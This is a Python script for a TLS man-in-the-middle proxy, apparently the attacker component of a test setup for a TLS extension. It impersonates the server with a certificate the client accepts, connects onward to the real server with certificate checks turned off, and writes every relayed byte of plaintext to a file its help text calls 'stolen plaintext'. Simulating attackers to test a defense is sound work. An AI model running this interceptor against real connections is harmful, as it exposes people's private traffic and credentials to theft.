"""A man in the middle on path 1 who holds a certificate that the client accepts.

It terminates TLS with that certificate, opens its own TLS connection to the real server, and copies
the plaintext both ways and into a file. Of extensions it knows nothing: ours is stripped.
"""

import argparse
import asyncio
import ssl

import common


class Interceptor:
    def __init__(self, options):
        self.options = options
        self.record = open(options.record, "ab", buffering=0)
        self.onward = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.onward.check_hostname = False
        self.onward.verify_mode = ssl.CERT_NONE

    def note(self, data):
        self.record.write(data)
        return data

    async def handle(self, reader, writer):
        host, port = common.destination(writer, self.options.to)
        try:
            up_reader, up_writer = await asyncio.open_connection(
                host, port, ssl=self.onward, server_hostname=self.options.name)
        except (ssl.SSLError, OSError) as error:
            common.say(event="refused", by="server", error=str(error))
            writer.close()
            return
        common.say(event="intercepted", to=f"{host}:{port}")
        await asyncio.gather(common.pump(reader, up_writer, self.note),
                             common.pump(up_reader, writer, self.note))
        for one in (writer, up_writer):
            one.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--cert", required=True)
    parser.add_argument("--key", required=True)
    parser.add_argument("--name", required=True, help="the name to ask the real server for")
    parser.add_argument("--record", required=True, help="where the stolen plaintext goes")
    parser.add_argument("--to", help="HOST:PORT instead of the connection's own destination")
    parser.add_argument("--family", type=int, default=4)
    options = parser.parse_args()
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(options.cert, options.key)
    common.run(common.serve(Interceptor(options).handle, options.family, tls))


if __name__ == "__main__":
    main()
